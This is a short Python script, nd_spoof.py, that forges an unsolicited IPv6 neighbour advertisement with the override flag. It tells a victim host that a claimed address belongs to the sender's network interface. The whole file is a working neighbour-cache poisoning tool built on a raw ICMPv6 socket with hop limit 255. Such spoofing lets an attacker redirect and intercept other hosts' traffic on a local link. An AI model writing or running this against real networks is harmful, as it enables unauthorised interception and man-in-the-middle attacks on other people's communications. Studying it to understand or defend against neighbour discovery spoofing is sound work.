# SPDX-License-Identifier: GPL-3.0-or-later
"""nd_spoof.py INTERFACE CLAIMED VICTIM: tell VICTIM that the address CLAIMED is ours.

An unasked neighbour advertisement that overrides what the victim knows (RFC 4861, 4.4 and 7.2.5). Fails when the kernel
does not let it out.
"""

from __future__ import annotations

import socket
import struct
import sys
from pathlib import Path

ADVERTISEMENT, OVERRIDE, TARGET_LINK_ADDRESS = 136, 0x20000000, 2


def main(interface: str, claimed: str, victim: str) -> None:
    link = bytes.fromhex(Path(f"/sys/class/net/{interface}/address").read_text().replace(":", ""))
    packet = struct.pack("!BBHI", ADVERTISEMENT, 0, 0, OVERRIDE)
    packet += socket.inet_pton(socket.AF_INET6, claimed)
    packet += struct.pack("!BB", TARGET_LINK_ADDRESS, 1) + link
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        raw.sendto(packet, (victim, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
